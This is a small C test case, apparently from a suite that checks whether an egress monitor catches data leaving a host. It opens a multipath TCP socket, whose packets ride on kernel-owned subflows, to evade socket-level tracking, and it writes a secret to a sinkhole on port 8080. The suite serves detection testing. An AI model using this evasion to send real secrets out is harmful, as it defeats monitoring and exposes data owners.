// SPDX-License-Identifier: Apache-2.0
/*
 * Trick: Speaks multipath TCP: the program's socket is not the one that the packets belong to.
 * Known from: MPTCP (RFC 8684, Linux 5.6), whose subflows are sockets of the kernel.
 * First: connect at entry and exit; the cgroup hook's copy of the address
 * Second: inet_sock_set_state of the subflow; the sinkhole's record
 */
#include "trick.h"

int main(void)
{
	struct sockaddr_in to = sink(8080);
	int fd = socket(AF_INET, SOCK_STREAM, IPPROTO_MPTCP);

	if (fd < 0)
		blocked();
	if (connect(fd, (void *)&to, sizeof(to)))
		err(1, "connect");
	dprintf(fd, "%s", secret());
	finish(fd);
	performed();
}
